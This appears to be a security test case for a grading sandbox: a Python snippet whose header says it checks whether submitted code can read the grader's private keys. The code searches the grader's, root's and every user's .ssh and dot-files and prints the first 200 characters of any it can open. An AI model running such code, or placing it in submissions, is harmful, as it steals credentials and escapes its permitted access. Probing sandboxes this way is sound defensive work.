# family = "reading"
# tries = "Private keys and configuration are read from the home folder of whoever grades, by its name and by HOME of other processes."
# could_earn = "Access to everything that the instructor has access to."
# undefended = "LEAK: the file was read."

# %% extra
import glob
import os

for pattern in ("<<home>>/.ssh/*", os.path.expanduser("~root/.*"), "/home/*/.ssh/*"):
    for name in glob.glob(pattern):
        try:
            print("LEAK:", name, open(name).read(200))
        except OSError:
            pass
